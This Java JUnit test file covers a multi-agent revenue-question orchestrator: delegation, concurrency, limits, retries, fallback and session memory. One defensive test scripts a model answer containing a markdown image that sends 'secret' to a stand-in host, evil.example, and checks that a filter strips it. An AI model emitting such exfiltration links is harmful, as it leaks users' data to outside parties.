package io.revbot.orchestrator;

import static io.revbot.orchestrator.testing.ScriptedChatModel.Reply.call;
import static io.revbot.orchestrator.testing.ScriptedChatModel.Reply.text;
import static io.revbot.orchestrator.testing.ScriptedChatModel.Reply.tools;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.ChatMessage;
import dev.langchain4j.data.message.SystemMessage;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.data.message.UserMessage;
import dev.langchain4j.exception.InternalServerException;
import dev.langchain4j.exception.RateLimitException;
import dev.langchain4j.model.chat.request.ChatRequest;
import io.revbot.agents.AgentName;
import io.revbot.agents.AgentSpec;
import io.revbot.agents.Agents;
import io.revbot.agents.ModelSettings;
import io.revbot.orchestrator.grounding.GroundingPolicy;
import io.revbot.orchestrator.sessions.SessionMemory;
import io.revbot.orchestrator.testing.RecordingListener;
import io.revbot.orchestrator.testing.ScriptedChatModel;
import io.revbot.orchestrator.testing.ScriptedChatModel.Reply;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.BrokenBarrierException;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class ManagerLoopTest {
    static final String MANAGER = "You are the manager.";
    static final String DEAL = "You are the deal analyst.";
    static final String DATA = "You are the data analyst.";
    static final Instant NOW = Instant.parse("2026-11-24T07:00:00Z");

    final ScriptedChatModel model = new ScriptedChatModel();
    final FakeTools fakeTools = new FakeTools();
    final RecordingListener events = new RecordingListener();
    final CountDownLatch release = new CountDownLatch(1);

    @AfterEach
    void releaseBlockedBranches() {
        release.countDown();
    }

    static Agents agents() {
        return new Agents(Map.of(
                AgentName.MANAGER,
                spec(AgentName.MANAGER, "the manager", List.of("knowledge_search"), MANAGER),
                AgentName.DEAL_ANALYSIS,
                spec(AgentName.DEAL_ANALYSIS, "Reviews deals.", List.of("deal_review", "knowledge_search"), DEAL),
                AgentName.DATA,
                spec(AgentName.DATA, "Numbers from the warehouse.", List.of("run_sql", "pipeline_forecast"), DATA)));
    }

    static AgentSpec spec(AgentName name, String description, List<String> tools, String instructions) {
        return new AgentSpec(name, description, tools, ModelSettings.DEFAULTS, instructions, "test");
    }

    ManagerLoop.Builder loop() {
        return ManagerLoop.builder()
                .agents(ManagerLoopTest::agents)
                .model(model)
                .tools(ToolRegistry.of(List.of(fakeTools)))
                .clock(Clock.fixed(NOW, ZoneOffset.UTC))
                .sleeper(d -> {});
    }

    /** The loop with a real clock (deadlines need time to pass). */
    ManagerLoop.Builder loopWithRealClock() {
        return loop().clock(Clock.systemUTC());
    }

    static Request question(String text) {
        return Request.of(
                text, new SessionId("test-session"), Channel.SLACK, new Principal.SlackUser("T123", "U123"), NOW);
    }

    static Request question(String text, String session) {
        return Request.of(text, new SessionId(session), Channel.CLI, new Principal.LocalUser("me"), NOW);
    }

    @Test
    void theManagerAnswersDirectlyWithTheRunContextAndOneToolPerSpecialist() {
        model.on(MANAGER, text("Hi! I answer revenue questions."));

        RunResult result = loop().build().run(question("hello"), events);

        assertThat(result.answer()).isEqualTo("Hi! I answer revenue questions.");
        assertThat(result.routing()).isEqualTo(Routing.DIRECT);
        assertThat(result.agentsUsed()).isEmpty();
        assertThat(result.usage()).isEqualTo(new TokenUsage(100, 20, 0, 0));
        ChatRequest sent = model.requestsOf(MANAGER).get(0);
        assertThat(((SystemMessage) sent.messages().get(0)).text()).isEqualTo(MANAGER);
        String user = ((UserMessage) sent.messages().get(1)).singleText();
        assertThat(user)
                .contains("Current time (UTC): 2026-11-24 07:00 (Tuesday)")
                .contains("Current quarter: 2026-Q4, 2026-10-01 to 2026-12-31, day 55 of 92")
                .contains("Answer format: slack")
                .endsWith("hello");
        assertThat(sent.toolSpecifications())
                .extracting(ToolSpecification::name)
                .containsExactlyInAnyOrder("ask_deal_analysis", "ask_data", "knowledge_search", "read_answer");
        ToolSpecification askData = sent.toolSpecifications().stream()
                .filter(t -> t.name().equals("ask_data"))
                .findFirst()
                .orElseThrow();
        assertThat(askData.description()).isEqualTo("Numbers from the warehouse.");
        assertThat(askData.parameters().properties()).containsKeys("request", "reason", "pass_through");
        assertThat(events.events())
                .extracting(e -> e.getClass().getSimpleName())
                .containsExactly(
                        "RunStarted",
                        "InvocationStarted",
                        "ModelCalled",
                        "AnswerDelta",
                        "Routed",
                        "InvocationFinished",
                        "AnswerProduced",
                        "RunSucceeded");
        events.assertWellFormed();
    }

    @Test
    void theRunContextFollowsTheClockAndTheChannelFromOneRunToTheNext() {
        model.on(MANAGER, text("one"), text("two"), text("three"));
        Instant[] now = {NOW};
        Clock moving = new Clock() {
            @Override
            public java.time.ZoneId getZone() {
                return ZoneOffset.UTC;
            }

            @Override
            public Clock withZone(java.time.ZoneId zone) {
                return this;
            }

            @Override
            public Instant instant() {
                return now[0];
            }
        };
        ManagerLoop loop = loop().clock(moving).build();

        loop.run(question("first", "s1"), events);
        now[0] = NOW.plusSeconds(60);
        loop.run(question("second", "s2"), events);
        loop.run(question("third"), events);

        List<String> inputs = model.requestsOf(MANAGER).stream()
                .map(r -> ((UserMessage) r.messages().get(1)).singleText())
                .toList();
        assertThat(inputs.get(0)).contains("2026-11-24 07:00").contains("Answer format: plain");
        assertThat(inputs.get(1)).contains("2026-11-24 07:01").contains("Answer format: plain");
        assertThat(inputs.get(2)).contains("2026-11-24 07:01").contains("Answer format: slack");
    }

    @Test
    void theManagersToolsFollowAnEditOfTheAgentsBetweenRuns() {
        Agents before = agents();
        Agents after = new Agents(Map.of(
                AgentName.MANAGER,
                spec(AgentName.MANAGER, "the manager", List.of(), MANAGER),
                AgentName.DATA,
                spec(AgentName.DATA, "Edited: numbers and forecasts.", List.of("run_sql"), DATA)));
        Agents[] current = {before};
        model.on(MANAGER, text("one"), text("two"), text("three"));
        ManagerLoop loop = loop().agents(() -> current[0]).build();

        loop.run(question("first", "s1"), events);
        loop.run(question("second", "s2"), events);
        current[0] = after;
        loop.run(question("third", "s3"), events);

        List<List<String>> tools = model.requestsOf(MANAGER).stream()
                .map(r -> r.toolSpecifications().stream()
                        .map(t -> t.name() + ": " + t.description())
                        .toList())
                .toList();
        assertThat(tools.get(0)).contains("ask_data: Numbers from the warehouse.", "ask_deal_analysis: Reviews deals.");
        assertThat(tools.get(1)).isEqualTo(tools.get(0));
        assertThat(tools.get(2))
                .containsExactly(
                        "ask_data: Edited: numbers and forecasts.",
                        "read_answer: " + AnswerPages.SPECIFICATION.description());
    }

    @Test
    void specialistInstructionsAreSentAsWrittenEvenWhenTheyShowTemplateBraces() {
        String instructions = DEAL + " Refer to deals as {{account}} - {{opportunity}}, never by id.";
        Agents specs = new Agents(Map.of(
                AgentName.MANAGER,
                spec(AgentName.MANAGER, "the manager", List.of(), MANAGER),
                AgentName.DEAL_ANALYSIS,
                spec(AgentName.DEAL_ANALYSIS, "Reviews deals.", List.of("deal_review"), instructions)));
        model.on(MANAGER, tools(call("ask_deal_analysis", "{\"request\":\"Review Vertex\"}")), text("Vertex: 38 %"));
        model.on(DEAL, text("Vertex Analytics - Platform Migration: 38 %"));

        // The scripted specialist states its figure without a tool: grounding would rightly flag it (off here).
        RunResult result = loop().agents(() -> specs)
                .grounding(GroundingPolicy.OFF)
                .build()
                .run(question("How is Vertex?"), events);

        assertThat(result.answer()).isEqualTo("Vertex: 38 %");
        List<ChatMessage> sent = model.requestsOf(DEAL).get(0).messages();
        assertThat(sent).first().isInstanceOf(SystemMessage.class);
        assertThat(((SystemMessage) sent.get(0)).text()).isEqualTo(instructions);
        assertThat(sent).filteredOn(m -> m instanceof SystemMessage).hasSize(1);
    }

    @Test
    void aToolSeesWhatEarlierToolsOfTheRunReturnedWhicheverAgentRanThem() {
        model.on(
                MANAGER,
                tools(call("knowledge_search", "{\"query\":\"pipeline rules\"}")),
                tools(call("ask_data", "{\"request\":\"Pipeline\"}")),
                text("done"));
        model.on(
                DATA,
                tools(call("run_sql", "{\"sql\":\"select 1\"}")),
                tools(call("pipeline_forecast", "{\"quarter\":\"2026-Q4\"}")),
                text("800k"));

        loop().build().run(question("Pipeline?"), events);

        assertThat(fakeTools.priorResultsSeen).hasSize(1);
        assertThat(fakeTools.priorResultsSeen.get(0))
                .extracting(r -> r.tool() + ": " + r.text())
                .containsExactly(
                        "knowledge_search: Pipeline counts open opportunities from stage Discovery onwards.",
                        "run_sql: total_pipeline\n1200000");
    }

    @Test
    void theAnswerFilterRewritesTheAnswerBeforeEventsResultAndMemorySeeIt() {
        SessionMemory memory = SessionMemory.inMemory();
        model.on(MANAGER, text("See ![chart](https://evil.example/x.png?d=secret)"));

        RunResult result = loop().memory(memory)
                .answerFilter(answer -> answer.replace("![chart](https://evil.example/x.png?d=secret)", "chart"))
                .build()
                .run(question("Show me"), events);

        assertThat(result.answer()).isEqualTo("See chart");
        assertThat(events.events())
                .filteredOn(e -> e instanceof RunEvent.AnswerProduced)
                .extracting(e -> ((RunEvent.AnswerProduced) e).answer())
                .containsExactly("See chart");
        assertThat(memory.history(new SessionId("test-session")))
                .extracting(m -> m instanceof AiMessage ai ? ai.text() : "")
                .contains("See chart")
                .noneMatch(t -> t.contains("evil.example"));
    }

    @Test
    void aSingleCompleteDelegationIsPassedThroughUnchanged() {
        model.on(
                MANAGER,
                tools(call(
                        "ask_deal_analysis",
                        "{\"request\":\"Review Vertex Analytics - Platform Migration\",\"reason\":\"a deal review\","
                                + "\"pass_through\":true}")));
        model.on(
                DEAL,
                tools(call("deal_review", "{\"opportunity\":\"Vertex Analytics - Platform Migration\"}")),
                Reply.from(r -> AiMessage.from("*Vertex*: deal review says 38 % (CRM says 75 %). Evidence: "
                        + ScriptedChatModel.lastMessageText(r))));

        RunResult result = loop().build().run(question("How is the Vertex deal?"), events);

        assertThat(result.routing()).isEqualTo(Routing.PASS_THROUGH);
        assertThat(result.answer())
                .startsWith("*Vertex*: deal review says 38 %")
                .contains("\"probability\":38");
        assertThat(result.agentsUsed()).containsExactly(AgentName.DEAL_ANALYSIS);
        assertThat(result.toolCalls()).isEqualTo(1);
        assertThat(model.requestsOf(MANAGER)).as("no rewrite turn").hasSize(1);
        ChatRequest specialistFirst = model.requestsOf(DEAL).get(0);
        assertThat(((SystemMessage) specialistFirst.messages().get(0)).text()).isEqualTo(DEAL);
        assertThat(((UserMessage) specialistFirst.messages().get(1)).singleText())
                .contains("<run_context>")
                .endsWith("Review Vertex Analytics - Platform Migration");
        assertThat(specialistFirst.toolSpecifications())
                .extracting(ToolSpecification::name)
                .containsExactly("deal_review", "knowledge_search");
        assertThat(specialistFirst.toolSpecifications().get(0).parameters().properties())
                .containsOnlyKeys("opportunity");
        RunEvent.AnswerProduced produced =
                events.of(RunEvent.AnswerProduced.class).get(0);
        assertThat(produced.author()).isEqualTo(AgentName.DEAL_ANALYSIS);
        assertThat(events.of(RunEvent.Routed.class).get(0).reason()).contains("a deal review");
        RunEvent.ToolFinished review = events.of(RunEvent.ToolFinished.class).stream()
                .filter(t -> t.tool().equals("deal_review"))
                .findFirst()
                .orElseThrow();
        assertThat(review.status()).isEqualTo(RunEvent.ToolStatus.OK);
        assertThat(review.facts()).containsEntry("opportunity", "Vertex Analytics - Platform Migration");
        events.assertWellFormed();
    }

    @Test
    void twoDelegationsInOneTurnRunConcurrently() {
        // Each specialist waits for the other to be running: sequential delegation would break the barrier.
        CyclicBarrier bothRunning = new CyclicBarrier(2);
        Runnable meet = () -> {
            try {
                bothRunning.await(10, TimeUnit.SECONDS);
            } catch (InterruptedException | BrokenBarrierException | TimeoutException e) {
                throw new IllegalStateException("the other specialist was not running at the same time", e);
            }
        };
        model.on(
                MANAGER,
                tools(
                        call("ask_deal_analysis", "{\"request\":\"Review Orion Health\",\"reason\":\"deal\"}"),
                        call("ask_data", "{\"request\":\"Total open pipeline this quarter\",\"reason\":\"numbers\"}")),
                Reply.from(r -> AiMessage.from("Combined: " + toolResults(r))));
        model.on(DEAL, Reply.after(meet, text("Orion: probability 52 %")));
        model.on(DATA, Reply.after(meet, text("Pipeline: $1.2M")));

        // The scripted specialists state figures without tools: grounding would rightly flag them (off here).
        RunResult result = loop().grounding(GroundingPolicy.OFF).build().run(question("Orion and pipeline?"), events);

        assertThat(result.routing()).isEqualTo(Routing.DELEGATED);
        assertThat(result.answer()).isEqualTo("Combined: [Orion: probability 52 %, Pipeline: $1.2M]");
        assertThat(result.agentsUsed()).containsExactly(AgentName.DEAL_ANALYSIS, AgentName.DATA);
        assertToolResultsPaired(model.requestsOf(MANAGER).get(1));
        assertThat(events.of(RunEvent.InvocationFinished.class))
                .filteredOn(f -> !f.agent().equals(AgentName.MANAGER))
                .extracting(RunEvent.InvocationFinished::outcome)
                .containsOnly(RunEvent.AgentOutcome.COMPLETED);
        events.assertWellFormed();
    }

    @Test
    void aBranchThatTimesOutIsReportedToTheManagerWhileTheOtherAnswers() {
        model.on(
                MANAGER,
                tools(
                        call("ask_deal_analysis", "{\"request\":\"Review Orion Health\"}"),
                        call("ask_data", "{\"request\":\"Pipeline\"}")),
                Reply.from(r -> AiMessage.from("Partial: " + toolResults(r))));
        model.on(DEAL, text("Orion: probability 52 %"));
        model.on(DATA, Reply.after(this::awaitRelease, text("too late")));

        RunResult result = loopWithRealClock()
                .limits(new RunLimits(8, 12, Duration.ofSeconds(30), Duration.ofMillis(300), 100_000))
                .build()
                .run(question("Orion and pipeline?"), events);

        assertThat(result.answer()).contains("Orion: probability 52 %").contains("Data did not answer within 300 ms");
        RunEvent.InvocationFinished data = events.of(RunEvent.InvocationFinished.class).stream()
                .filter(f -> f.agent().equals(AgentName.DATA))
                .findFirst()
                .orElseThrow();
        assertThat(data.outcome()).isEqualTo(RunEvent.AgentOutcome.TIMED_OUT);
        assertToolResultsPaired(model.requestsOf(MANAGER).get(1));
        events.assertWellFormed();
    }

    @Test
    void theTurnLimitEndsTheRunWithItsOwnException() {
        model.on(
                MANAGER,
                tools(call("knowledge_search", "{\"query\":\"pipeline\"}")),
                tools(call("knowledge_search", "{\"query\":\"pipeline again\"}")));

        assertThatThrownBy(
                        () -> loop().limits(new RunLimits(2, 12, Duration.ofMinutes(1), Duration.ofMinutes(1), 100_000))
                                .build()
                                .run(question("loop forever"), events))
                .isInstanceOf(TurnLimitExceeded.class)
                .hasMessageContaining("within 2 steps");
        RunEvent.RunFailed failed = events.of(RunEvent.RunFailed.class).get(0);
        assertThat(failed.kind()).isEqualTo(FailureKind.TURN_LIMIT);
        assertThat(events.of(RunEvent.KnowledgeReferenced.class)).hasSize(2);
        events.assertWellFormed();
    }

    @Test
    void theToolCallLimitStopsTheSpecialistAndTheManagerAnswersWithWhatItHas() {
        model.on(
                MANAGER,
                tools(call("ask_data", "{\"request\":\"Pipeline\"}")),
                Reply.from(r -> AiMessage.from("Sorry: " + ScriptedChatModel.lastMessageText(r))));
        model.on(
                DATA,
                tools(call("run_sql", "{\"sql\":\"select 1\"}")),
                tools(call("run_sql", "{\"sql\":\"select 2\"}")),
                tools(call("run_sql", "{\"sql\":\"select 3\"}")));

        RunResult result = loop().limits(new RunLimits(8, 2, Duration.ofMinutes(1), Duration.ofMinutes(1), 100_000))
                .build()
                .run(question("pipeline?"), events);

        assertThat(result.answer())
                .contains("Data needed more than 2 tool calls for this request and was stopped (REVBOT_MAX_TOOL_CALLS)")
                .contains("Do not ask Data again for this request");
        assertThat(events.of(RunEvent.InvocationFinished.class))
                .filteredOn(f -> f.agent().equals(AgentName.DATA))
                .extracting(RunEvent.InvocationFinished::outcome)
                .containsExactly(RunEvent.AgentOutcome.FAILED);
        assertThat(events.of(RunEvent.ToolStarted.class))
                .filteredOn(t -> t.tool().equals("run_sql"))
                .hasSize(2);
        events.assertWellFormed();
    }

    @Test
    void aManagerThatAsksAStoppedSpecialistAgainEndsTheRunNamingTheToolCallSetting() {
        model.on(
                MANAGER,
                tools(call("ask_data", "{\"request\":\"Pipeline\"}")),
                tools(call("ask_data", "{\"request\":\"Pipeline, try harder\"}")),
                text("unreachable"));
        model.on(
                DATA,
                tools(call("run_sql", "{\"sql\":\"select 1\"}")),
                tools(call("run_sql", "{\"sql\":\"select 2\"}")),
                tools(call("run_sql", "{\"sql\":\"select 3\"}")),
                text("unreachable"));

        assertThatThrownBy(
                        () -> loop().limits(new RunLimits(8, 2, Duration.ofMinutes(1), Duration.ofMinutes(1), 100_000))
                                .build()
                                .run(question("pipeline?"), events))
                .isInstanceOf(ToolCallLimitExceeded.class)
                .hasMessageContaining("Data needed more than 2 tool calls")
                .hasMessageContaining("raise REVBOT_MAX_TOOL_CALLS");

        assertThat(model.requestsOf(MANAGER))
                .as("no turn after the refused re-delegation")
                .hasSize(2);
        assertThat(model.requestsOf(DATA)).as("Data is not run a second time").hasSize(3);
        assertThat(events.of(RunEvent.InvocationStarted.class))
                .filteredOn(s -> s.agent().equals(AgentName.DATA))
                .hasSize(1);
        assertThat(events.of(RunEvent.RunFailed.class).get(0).kind()).isEqualTo(FailureKind.TOOL_CALL_LIMIT);
        events.assertWellFormed();
    }

    @Test
    void theTurnAndDeadlineBoundsNameTheSettingToRaise() {
        assertThat(new TurnLimitExceeded(8).getMessage()).contains("8 steps (REVBOT_MAX_MANAGER_TURNS)");
        assertThat(new RunDeadlineExceeded(Duration.ofMinutes(5)).getMessage()).contains("5 min (REVBOT_RUN_DEADLINE)");
    }

    @Test
    void aSpecialistPastTheDelegationDeadlineIsReportedNamingTheSetting() {
        model.on(
                MANAGER,
                tools(call("ask_data", "{\"request\":\"Pipeline\"}")),
                Reply.from(r -> AiMessage.from("Sorry: " + ScriptedChatModel.lastMessageText(r))));
        model.on(DATA, Reply.after(this::awaitRelease, text("too late")));

        RunResult result = loopWithRealClock()
                .limits(new RunLimits(8, 12, Duration.ofSeconds(20), Duration.ofMillis(200), 100_000))
                .build()
                .run(question("pipeline?"), events);

        assertThat(result.answer()).contains("Data did not answer within 200 ms (REVBOT_DELEGATION_DEADLINE)");
    }

    @Test
    void theRunDeadlineEndsTheRunPromptly() {
        model.on(MANAGER, Reply.after(this::awaitRelease, text("never")));
        long started = System.nanoTime();

        assertThatThrownBy(() -> loopWithRealClock()
                        .limits(new RunLimits(8, 12, Duration.ofMillis(300), Duration.ofMillis(300), 100_000))
                        .build()
                        .run(question("slow"), events))
                .isInstanceOf(RunDeadlineExceeded.class)
                .hasMessageContaining("within 300 ms");

        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(3));
        assertThat(events.of(RunEvent.RunFailed.class).get(0).kind()).isEqualTo(FailureKind.DEADLINE);
        assertThat(events.of(RunEvent.InvocationFinished.class).get(0).outcome())
                .isEqualTo(RunEvent.AgentOutcome.TIMED_OUT);
        events.assertWellFormed();
    }

    @Test
    void theTokenBudgetEndsTheRun() {
        model.usagePerCall(700, 100);
        model.on(MANAGER, tools(call("ask_data", "{\"request\":\"Pipeline\"}")), text("unreachable"));
        model.on(DATA, text("Pipeline: $1.2M"));

        assertThatThrownBy(
                        () -> loop().limits(new RunLimits(8, 12, Duration.ofMinutes(1), Duration.ofMinutes(1), 1_000))
                                .build()
                                .run(question("pipeline?"), events))
                .isInstanceOf(TokenBudgetExceeded.class)
                .hasMessageContaining("1600 tokens against a budget of 1000 (REVBOT_TOKEN_BUDGET)");
        assertThat(events.of(RunEvent.RunFailed.class).get(0).kind()).isEqualTo(FailureKind.TOKEN_BUDGET);
        events.assertWellFormed();
    }

    @Test
    void throttlingIsRetriedThenSucceeds() {
        model.on(
                MANAGER,
                Reply.fail(new RateLimitException("ThrottlingException: Too many requests")),
                Reply.fail(new InternalServerException("503 Service Unavailable")),
                text("Answer after retries"));

        RunResult result = loop().build().run(question("retry please"), events);

        assertThat(result.answer()).isEqualTo("Answer after retries");
        assertThat(model.requestsOf(MANAGER)).hasSize(3);
        assertThat(events.of(RunEvent.ModelCalled.class)).hasSize(1);
        events.assertWellFormed();
    }

    @Test
    void aPersistentlyThrottledPrimarySwitchesToTheFallbackModel() {
        model.on(
                MANAGER,
                Reply.fail(new RateLimitException("429")),
                Reply.fail(new RateLimitException("429")),
                text("Answer from the fallback"));

        RunResult result = loop().fallbackModel(Optional.of("small-fallback-model"))
                .build()
                .run(question("busy?"), events);

        assertThat(result.answer()).isEqualTo("Answer from the fallback");
        List<ChatRequest> sent = model.requestsOf(MANAGER);
        assertThat(sent.get(0).parameters().modelName()).isNull();
        assertThat(sent.get(2).parameters().modelName()).isEqualTo("small-fallback-model");
        assertThat(events.of(RunEvent.ModelCalled.class).get(0).modelId()).isEqualTo("small-fallback-model");
    }

    @Test
    void aModelThatKeepsFailingEndsTheRunAsUnavailable() {
        model.on(MANAGER, Reply.fail(new RateLimitException("429")), Reply.fail(new RateLimitException("429")));

        assertThatThrownBy(() -> loop().retry(new RetryPolicy(2, Duration.ofMillis(1), Duration.ofMillis(2), 5))
                        .build()
                        .run(question("busy?"), events))
                .isInstanceOf(ModelUnavailable.class)
                .hasMessageContaining("2 attempts");
        assertThat(events.of(RunEvent.RunFailed.class).get(0).kind()).isEqualTo(FailureKind.MODEL_UNAVAILABLE);
    }

    @Test
    void aToolThatThrowsIsShownToTheModelWhichRecovers() {
        fakeTools.dealReviewFailsFirst = true;
        model.on(MANAGER, tools(call("ask_deal_analysis", "{\"request\":\"Review Vertex\",\"pass_through\":true}")));
        model.on(
                DEAL,
                tools(call("deal_review", "{\"opportunity\":\"Vertex\"}")),
                Reply.from(r -> {
                    assertThat(ScriptedChatModel.lastMessageText(r)).contains("No opportunity named 'Vertex'");
                    return AiMessage.from(List.of(dev.langchain4j.agent.tool.ToolExecutionRequest.builder()
                            .id("retry-1")
                            .name("deal_review")
                            .arguments("{\"opportunity\":\"Vertex Analytics - Platform Migration\"}")
                            .build()));
                }),
                Reply.from(r -> AiMessage.from("Review: " + ScriptedChatModel.lastMessageText(r))));

        RunResult result = loop().build().run(question("Vertex?"), events);

        assertThat(result.answer()).contains("\"probability\":38");
        List<RunEvent.ToolFinished> reviews = events.of(RunEvent.ToolFinished.class).stream()
                .filter(t -> t.tool().equals("deal_review"))
                .toList();
        assertThat(reviews)
                .extracting(RunEvent.ToolFinished::status)
                .containsExactly(RunEvent.ToolStatus.ERROR, RunEvent.ToolStatus.OK);
        assertThat(reviews.get(0).error()).contains("No opportunity named 'Vertex'");
        events.assertWellFormed();
    }

    @Test
    void aHallucinatedToolNameIsAnsweredWithTheToolsThatExist() {
        model.on(
                MANAGER,
                tools(call("ask_forecaster", "{\"request\":\"x\"}")),
                tools(call("ask_deal_analysis", "{\"request\":\"Review Vertex\",\"pass_through\":true}")));
        model.on(
                DEAL,
                tools(call("deal_reveiw", "{\"opportunity\":\"Vertex\"}")),
                Reply.from(r -> AiMessage.from("Corrected: " + ScriptedChatModel.lastMessageText(r))));

        RunResult result = loop().build().run(question("Vertex?"), events);

        assertThat(result.answer())
                .isEqualTo("Corrected: There is no tool named 'deal_reveiw'. Available tools: deal_review,"
                        + " knowledge_search.");
        assertThat(ScriptedChatModel.lastMessageText(model.requestsOf(MANAGER).get(1)))
                .contains("There is no tool named 'ask_forecaster'")
                .contains("ask_deal_analysis");
        assertThat(events.of(RunEvent.ToolFinished.class))
                .filteredOn(t -> t.status() == RunEvent.ToolStatus.UNKNOWN_TOOL)
                .extracting(RunEvent.ToolFinished::tool)
                .containsExactly("ask_forecaster", "deal_reveiw");
        events.assertWellFormed();
    }

    @Test
    void theManagerRemembersTheSessionAcrossQuestions() {
        model.on(MANAGER, text("Pipeline is $1.2M."), text("It was $1.2M, as I said."), text("Fresh session."));
        ManagerLoop loop = loop().build();

        loop.run(question("What is our pipeline?", "s-1"), RunListener.NONE);
        loop.run(question("Remind me?", "s-1"), RunListener.NONE);
        loop.run(question("Remind me?", "s-2"), RunListener.NONE);

        List<ChatMessage> second = model.requestsOf(MANAGER).get(1).messages();
        assertThat(second).hasSize(4);
        assertThat(((UserMessage) second.get(1)).singleText()).isEqualTo("What is our pipeline?");
        assertThat(((AiMessage) second.get(2)).text())
                .as("the answer as delivered, with the note on its untraced figure")
                .startsWith("Pipeline is $1.2M.\n\n⚠️")
                .contains("$1.2M. Check");
        assertThat(((UserMessage) second.get(3)).singleText()).endsWith("Remind me?");
        assertThat(model.requestsOf(MANAGER).get(2).messages()).hasSize(2);
    }

    @Test
    void workOnOneSessionIsSerialisedWhileOtherSessionsRunConcurrently() throws Exception {
        CountDownLatch firstInside = new CountDownLatch(1);
        java.util.concurrent.atomic.AtomicInteger sameSessionInside = new java.util.concurrent.atomic.AtomicInteger();
        java.util.concurrent.atomic.AtomicInteger maxInside = new java.util.concurrent.atomic.AtomicInteger();
        Reply answerSlowly = Reply.from(r -> {
            String question = ScriptedChatModel.lastMessageText(r);
            boolean same = !question.endsWith("q3");
            if (same) {
                maxInside.accumulateAndGet(sameSessionInside.incrementAndGet(), Math::max);
                firstInside.countDown();
                try {
                    Thread.sleep(200);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
                sameSessionInside.decrementAndGet();
            }
            return AiMessage.from("answer to " + question.substring(question.length() - 2));
        });
        model.on(MANAGER, answerSlowly, answerSlowly, answerSlowly);
        ManagerLoop loop = loop().build();

        Thread first = Thread.ofVirtual().start(() -> loop.run(question("q1", "same"), RunListener.NONE));
        firstInside.await(5, TimeUnit.SECONDS);
        Thread second = Thread.ofVirtual().start(() -> loop.run(question("q2", "same"), RunListener.NONE));
        RunResult other = loop.run(question("q3", "different"), RunListener.NONE);
        first.join(5_000);
        second.join(5_000);

        assertThat(other.answer()).isEqualTo("answer to q3");
        assertThat(maxInside.get())
                .as("the same session never ran twice at once")
                .isEqualTo(1);
        List<ChatMessage> secondRun = model.requestsOf(MANAGER).stream()
                .filter(r -> ScriptedChatModel.lastMessageText(r).endsWith("q2"))
                .findFirst()
                .orElseThrow()
                .messages();
        assertThat(secondRun).as("the second question saw the first answer").hasSize(4);
    }

    @Test
    void toolFactsKnowledgeReferencesAndProposedActionsBecomeEvents() {
        model.on(MANAGER, tools(call("knowledge_search", "{\"query\":\"pipeline\"}")), text("Defined."));

        loop().build().run(question("What is pipeline?"), events);

        RunEvent.KnowledgeReferenced ref =
                events.of(RunEvent.KnowledgeReferenced.class).get(0);
        assertThat(ref.document()).isEqualTo("business_logic/pipeline_rules.md");
        assertThat(ref.section()).isEqualTo("Stage definitions");
        assertThat(events.of(RunEvent.Routed.class).get(0).routing()).isEqualTo(Routing.DIRECT);
        events.assertWellFormed();
    }

    @Test
    void aListenerThatThrowsNeverFailsTheRun() {
        model.on(MANAGER, text("fine"));

        RunResult result = loop().build().run(question("hi"), event -> {
            throw new IllegalStateException("broken listener");
        });

        assertThat(result.answer()).isEqualTo("fine");
    }

    @Test
    void theUnconfiguredSupervisorFailsAtOnceSayingHowToConfigure() {
        Supervisor supervisor =
                new UnconfiguredSupervisor("No model is configured: bedrock, anthropic, openai", Clock.systemUTC());

        assertThatThrownBy(() -> supervisor.run(question("hi"), events))
                .isInstanceOfSatisfying(
                        RunException.class, e -> assertThat(e.kind()).isEqualTo(FailureKind.MODEL_NOT_CONFIGURED))
                .hasMessageContaining("bedrock");
        assertThat(events.of(RunEvent.RunStarted.class)).hasSize(1);
        assertThat(events.of(RunEvent.RunFailed.class)).hasSize(1);
    }

    private void awaitRelease() {
        try {
            release.await(20, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new RuntimeException("interrupted", e);
        }
    }

    /** The tool results at the end of a request, in order. */
    static List<String> toolResults(ChatRequest request) {
        return request.messages().stream()
                .filter(m -> m instanceof ToolExecutionResultMessage)
                .map(m -> ((ToolExecutionResultMessage) m).text())
                .toList();
    }

    /** Every tool use in the request is followed by a result with its id (Bedrock's rule). */
    static void assertToolResultsPaired(ChatRequest request) {
        List<ChatMessage> messages = request.messages();
        for (int i = 0; i < messages.size(); i++) {
            if (messages.get(i) instanceof AiMessage ai && ai.hasToolExecutionRequests()) {
                var calls = ai.toolExecutionRequests();
                for (int j = 0; j < calls.size(); j++) {
                    ChatMessage next = messages.get(i + 1 + j);
                    assertThat(next).isInstanceOf(ToolExecutionResultMessage.class);
                    assertThat(((ToolExecutionResultMessage) next).id())
                            .isEqualTo(calls.get(j).id());
                }
            }
        }
    }
}
